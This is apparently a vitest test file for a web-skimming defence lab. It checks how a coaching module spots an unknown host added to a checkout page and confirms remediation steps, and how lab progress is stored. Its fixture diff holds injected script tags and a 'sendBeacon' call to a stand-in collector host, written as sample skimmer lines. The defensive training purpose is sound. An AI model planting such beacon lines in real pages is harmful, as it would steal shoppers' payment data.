import { beforeEach, describe, expect, it, vi } from 'vitest'
import type { DefenderView } from '../../range/protocol/view.ts'
import { confirmedSteps, minutesToRestore, strangers } from '../../site/exercise/lab-steps.ts'
import { changeLab, readLab, readLabRecord, writeLabRecord } from '../../site/lessons/lab-notes.ts'

type Shown = Pick<DefenderView, 'pages' | 'incidents' | 'decisions' | 'state'>
const quiet: Shown = {
  pages: [{ page: 'checkout', live: 2, baseline: 2, changed: false, diff: [] }],
  incidents: [],
  decisions: [],
  state: {
    refundsFrozen: false,
    velocityPerMinute: null,
    blockedHosts: [],
    blockedIps: [],
    suspended: [],
    accounts: [],
    lockedVans: [],
  },
}
const view = (change: Partial<Shown> = {}): DefenderView =>
  ({ ...quiet, ...change }) as unknown as DefenderView
const tampered: DefenderView['pages'] = [
  {
    page: 'checkout',
    live: 3,
    baseline: 2,
    changed: true,
    diff: [
      { sign: ' ', text: "navigator.sendBeacon('https://count.visitlog.example/collect', x)" },
      { sign: '-', text: '<script src="https://gone.example/a.js"></script>' },
      { sign: '+', text: '<script src="https://count.visitlog.example/campaign-9.js"></script>' },
      { sign: '+', text: "navigator.sendBeacon('https://px-gather.example/collect', y)" },
    ],
  },
]
const incident = (checks: readonly (boolean | null)[]): DefenderView['incidents'] =>
  [
    {
      id: 'i0',
      attack: 'W1',
      opened: 600_000,
      lead: ['page:checkout', 'host:px-gather.example'],
      entities: ['host:px-gather.example', 'ip:192.0.2.1'],
      checks: checks.map((ok, i) => ({ check: `c${i}`, ok })),
    },
  ] as unknown as DefenderView['incidents']
const decided = (action: string, effect: string, at = 720_000): DefenderView['decisions'][number] =>
  ({ action, effect, at }) as unknown as DefenderView['decisions'][number]

describe('what the coach of the lab reads from the desk', () => {
  it('is silent while nothing has changed', () => {
    expect(strangers(view())).toEqual([])
    expect(confirmedSteps(view())).toEqual([])
    expect(minutesToRestore(view())).toBeNull()
  })
  it('names the host of an added line, never a partner, a removed or an unchanged one', () => {
    expect(strangers(view({ pages: tampered }))).toEqual(['px-gather.example'])
  })
  it('still knows the stranger from the incident when the page is restored', () => {
    expect(strangers(view({ incidents: incident([]) }))).toEqual(['px-gather.example'])
  })
  it('takes a step as done when it took effect, not when it was asked for', () => {
    const incidents = incident([false, null])
    const asked = view({
      incidents,
      decisions: ['pending', 'refused', 'failed'].map((effect) => decided('RestorePage', effect)),
    })
    expect(confirmedSteps(asked)).toEqual([])
    const done = view({
      incidents,
      decisions: [decided('RestorePage', 'done'), decided('NotifyCardHolders', 'verified')],
    })
    expect(confirmedSteps(done)).toEqual(['restore', 'tell'])
    expect(minutesToRestore(done)).toBe(2)
  })
  it('counts a block only when it hits the stranger', () => {
    const blocking = (host: string): DefenderView =>
      view({ pages: tampered, state: { ...quiet.state, blockedHosts: [host] } })
    expect(confirmedSteps(blocking('chat.helpful.example'))).toEqual([])
    expect(confirmedSteps(blocking('px-gather.example'))).toEqual(['block'])
  })
  it('is over when every check holds, and not before one is known', () => {
    expect(confirmedSteps(view({ incidents: incident([true, null]) }))).toEqual([])
    expect(confirmedSteps(view({ incidents: incident([]) }))).toEqual([])
    expect(confirmedSteps(view({ incidents: incident([true, true]) }))).toEqual(['over'])
  })
})

describe('what the device keeps of a lab', () => {
  const stored = new Map<string, string>()
  beforeEach(() => {
    stored.clear()
    vi.stubGlobal('localStorage', {
      getItem: (key: string) => stored.get(key) ?? null,
      setItem: (key: string, value: string) => stored.set(key, value),
      removeItem: (key: string) => stored.delete(key),
    })
  })
  it('adds what changes and forgets nothing', () => {
    expect(readLab('x1')).toBeUndefined()
    changeLab('x1', { back: '/courses/sme/s1' })
    changeLab('x1', { done: ['pages'] })
    changeLab('x1', { hints: { host: 2 } })
    expect(readLab('x1')).toEqual({
      back: '/courses/sme/s1',
      done: ['pages'],
      hints: { host: 2 },
    })
  })
  it('leads back into this site only, and survives spoilt storage', () => {
    stored.set('doorstep.lab.x2', JSON.stringify({ back: '//elsewhere.example' }))
    expect(readLab('x2')?.back).toBe('/courses')
    stored.set('doorstep.lab.x3', '{ not json')
    expect(readLab('x3')).toBeUndefined()
    stored.set('doorstep.lab-record./courses/sme/s1', JSON.stringify({ done: 'all' }))
    expect(readLabRecord('/courses/sme/s1')).toBeUndefined()
  })
  it('has the newest record of a module', () => {
    writeLabRecord('/courses/sme/s1', { exercise: 'x1', done: 7, of: 7, counted: 1 })
    expect(readLabRecord('/courses/sme/s1')).toEqual({
      exercise: 'x1',
      done: 7,
      of: 7,
      counted: 1,
    })
  })
})
